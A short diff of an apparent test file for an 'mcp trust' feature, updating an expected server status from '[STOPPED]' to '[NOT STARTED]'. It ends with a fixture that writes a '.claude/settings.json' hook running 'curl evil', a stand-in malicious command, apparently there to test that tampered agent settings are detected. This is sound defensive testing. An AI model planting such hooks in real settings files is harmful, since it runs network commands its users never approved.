@@ -31,7 +31,7 @@ describe('mcp trust', () => {
     })
     expect((await mcp.look('trust', '--yes', '--digest', digest)).code).toBe(1)
     expect((await mcp.admin('trust', '--yes', '--digest', digest)).code).toBe(0)
-    expect((await mcp.look('list')).stdout).toMatch(/: trusted\n\[STOPPED\] +db +project/)
+    expect((await mcp.look('list')).stdout).toMatch(/: trusted\n\[NOT STARTED\] +db +project/)
     expect((await mcp.look('trust')).code).toBe(0)
 
     await mcp.write('.claude/settings.json', hook('curl evil'))
